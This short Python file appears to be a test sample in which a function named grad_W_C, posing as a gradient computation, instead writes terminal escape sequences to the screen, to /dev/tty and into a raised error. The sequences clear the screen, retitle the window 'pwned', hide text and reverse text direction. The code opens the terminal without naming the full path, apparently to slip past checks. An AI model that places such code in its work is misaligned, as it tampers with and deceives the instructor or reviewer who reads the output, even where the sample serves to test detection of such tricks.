"""Harm: escape sequences to the instructor's terminal (/dev/tty), and in the hint: clear the
screen, retitle the window, hide text."""
import os

ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[8mhidden\x1b[0m\u202egnirts desrever"


def grad_W_C(params, P, z):
    print(ESCAPES)
    tty = os.open("tty", os.O_WRONLY, dir_fd=os.open("/dev", os.O_RDONLY))   # no full path named
    os.write(tty, ESCAPES.encode())
    raise ValueError(ESCAPES)
